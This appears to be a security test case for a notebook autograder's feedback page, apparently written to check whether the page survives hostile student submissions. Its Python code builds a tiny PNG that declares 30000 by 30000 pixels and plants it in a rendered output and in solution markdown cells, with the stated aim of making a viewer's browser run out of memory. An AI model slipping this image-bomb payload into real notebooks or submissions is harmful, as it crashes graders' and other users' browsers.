# attacks: the feedback page: a small picture of 30000 by 30000 pixels, in an answer and as an output
# success: a browser runs out of memory
# %% before
import base64, os, struct, zlib

def _png(width, height, rest=b""):
    _parts = [(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)), (b"IDAT", rest), (b"IEND", b"")]
    _data = b"\x89PNG\r\n\x1a\n"
    for _kind, _body in _parts:
        _data += struct.pack(">I", len(_body)) + _kind + _body
        _data += struct.pack(">I", zlib.crc32(_kind + _body))
    return _data

class _Giant:
    def _repr_png_(self):
        return _png(30_000, 30_000)

display(_Giant())
# %% notebook
import base64
import struct

data = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 30_000, 30_000) + b"\1\0\0\0\0"
for cell in notebook["cells"]:
    if cell["cell_type"] == "markdown" and cell["metadata"].get("nbgrader", {}).get("solution"):
        cell["source"] = "![x](attachment:x.png)"
        cell["attachments"] = {"x.png": {"image/png": base64.b64encode(data).decode()}}
